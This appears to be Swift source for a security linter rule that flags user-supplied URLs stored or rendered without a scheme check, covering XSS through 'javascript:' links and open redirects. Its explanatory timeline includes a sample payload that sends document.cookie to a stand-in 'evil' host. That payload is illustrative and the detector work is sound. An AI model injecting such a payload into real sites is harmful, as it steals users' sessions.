import Flow

extension Rule {
    /// A URL that somebody else chose is stored or followed, whatever its scheme.
    package static let unsafeURLField = Rule(
        id: "unsafe-url-field", summary: "A URL is stored or shown without a test of its scheme", severity: .error,
        .surfaces(in: { paths, project in URLUse.all(in: paths, project) }, judged: { surfaces, project in URLField.findings(surfaces, project) }))
}

/// A field with all the places that write and show it.
private struct URLField {
    let uses: [Surface]

    static func findings(_ surfaces: [Surface], _ project: Project) -> [Finding] {
        var fields: [String: [Surface]] = [:]
        for surface in surfaces { fields[key(surface.name), default: []].append(surface) }
        return fields.sorted { $0.key < $1.key }.compactMap { URLField(uses: $0.value).finding(project) }
    }

    private static func key(_ name: String) -> String {
        let parts = name.split(separator: ".")
        guard parts.count > 1, let holder = parts.first, let field = parts.last else { return Naming.fold(name) }
        // `source_url` says what it is of; `url` does not.
        if Naming.words(String(field)).count > 1 { return Naming.fold(String(field)) }
        return Naming.singular(Naming.fold(String(holder))) + "." + Naming.fold(String(field))
    }

    private func finding(_ project: Project) -> Finding? {
        let writes = uses.filter { $0.sink == .field }.sorted { $0.span < $1.span }, shows = uses.filter { $0.sink != .field }.sorted { $0.span < $1.span }
        let openWrites = writes.filter { $0.guardian == nil }
        // Every write lets only harmless schemes in: so are the rows.
        if !writes.isEmpty, openWrites.isEmpty { return nil }
        let openShows = shows.filter { $0.guardian == nil }.map { shown in
            var shown = shown
            if project.refusingScriptLinks.contains(shown.span.file), shown.sink == .link { shown.confidence = .low }
            return shown
        }
        let places = openWrites + openShows
        guard let first = places.max(by: { ($0.confidence, $1.span) < ($1.confidence, $0.span) }) else { return nil }
        var confidence = places.map(\.confidence).max() ?? .low
        // `event.url` in a page, and events are stored without one: the server has made it up.
        if writes.isEmpty, confidence == .medium, openShows.allSatisfy({ project.makes($0.name) }) {
            confidence = .low
        }
        // Both ends are open.
        if confidence == .medium, openWrites.contains(where: { $0.confidence == .medium }), openShows.contains(where: { $0.confidence == .medium }) {
            confidence = .high
        }
        return finding(first, openWrites, openShows, confidence, inPython: project.language(of: first.span.file) == .python)
    }

    private func finding(
        _ first: Surface, _ writes: [Surface], _ shows: [Surface], _ confidence: Confidence, inPython isPython: Bool
    ) -> Finding {
        let field = "`\(first.name)`"
        let ordered = ([first] + writes.filter { $0.span != first.span } + shows.filter { $0.span != first.span })
        var evidence: [Evidence] = []
        // The places first; how they are reached, as far as there is room.
        var seen: Set<Span> = []
        let places = ordered.filter { seen.insert($0.span).inserted }.prefix(14)
        var room = 15 - places.count
        for use in places {
            for call in use.calls where room > 0 && !evidence.contains(where: { $0.span == call }) {
                evidence.append(Evidence(.call, call, "through this call"))
                room -= 1
            }
            let does = use.sink.map { $0 == .field ? "stores \(field) as it comes" : "\($0.verb) \(field)" } ?? ""
            evidence.append(Evidence(use.sink == .field ? .act : .effect, use.span, does))
        }
        let passive = shows.first?.sink?.passive ?? ""
        let isStored = !writes.isEmpty, isShown = !shows.isEmpty
        let isImage = shows.allSatisfy { $0.sink == .image } && first.name.namesImage
        let isSent = !isStored && shows.allSatisfy { $0.sink == .redirect }
        let message: String =
            if isSent {
                "\(field) is redirected to as it comes, so whoever sets it sends people from your address to any other, as to a copy of your sign-in page."
            } else if isStored, isShown {
                "\(field) is stored as it comes and \(passive) later, so whoever sets it to `javascript:…` runs code in the pages of others."
            } else if isStored {
                "\(field) is stored as it comes: `javascript:…` and `data:text/html,…` are URLs too, and run wherever the field becomes a link."
            } else {
                "\(field) \(passive) without a test of its scheme, so a value such as `javascript:…` runs code in the page of whoever follows it."
            }
        var finding = Finding(
            rule: Rule.unsafeURLField.id,
            severity: isImage ? .note : confidence == .low || isSent ? .warning : .error,
            confidence: confidence, message: message,
            help: URLRemedy.help(isRedirect: isSent, inPython: isPython), remedy: URLRemedy.code(isRedirect: isSent, inPython: isPython),
            span: first.span, evidence: evidence,
            timeline: [
                Moment(
                    .first,
                    isSent ? "sets \(field) to `https://your-name.example.net/login`" : "sets \(field) to `javascript:fetch('//evil/'+document.cookie)`",
                    evidence: evidence.firstIndex { $0.span == first.span } ?? 0),
                Moment(
                    .second, isSent ? "follows a link to your address" : isShown ? "opens the page, and follows the link" : "opens a page that shows it",
                    evidence: evidence.lastIndex { $0.role == .effect } ?? evidence.count - 1),
                Moment(.both, isSent ? "the second lands on the page of the first" : "the code runs as the second, with all that they may do"),
            ], routine: first.routine)
        let parts = first.name.split(separator: ".").map(String.init)
        if parts.count == 2 { (finding.table, finding.column) = (parts[0], parts[1]) }
        return finding
    }
}

extension Project {
    /// Whether the table that such a field belongs to has it as a column; nil where the table is not known.
    func stores(_ name: String) -> Bool? {
        let parts = name.split(separator: ".").map(String.init)
        guard parts.count > 1, let field = parts.last, let table = schema.table(parts[parts.count - 2]) ?? schema.table(parts[parts.count - 2] + "s"),
            !table.columns.isEmpty
        else { return nil }
        return table.holds(field)
    }

    /// A field of a table that has no such column, or one under which the project hands out URLs of its own.
    fileprivate func makes(_ name: String) -> Bool {
        let stored = stores(name), field = name.split(separator: ".").last ?? ""
        return stored == false || stored == nil && madeURLs.contains(Naming.fold(String(field)))
    }
}

extension Sink {
    fileprivate var verb: String {
        switch self {
        case .link: "links to"
        case .navigation: "goes to"
        case .redirect: "sends the browser to"
        case .image: "shows an image from"
        case .frame: "frames"
        case .field: "stores"
        }
    }

    fileprivate var passive: String {
        switch self {
        case .link: "becomes a link"
        case .navigation: "is where the page goes"
        case .redirect: "is redirected to"
        case .image: "is shown as an image"
        case .frame: "is framed"
        case .field: "is stored"
        }
    }
}
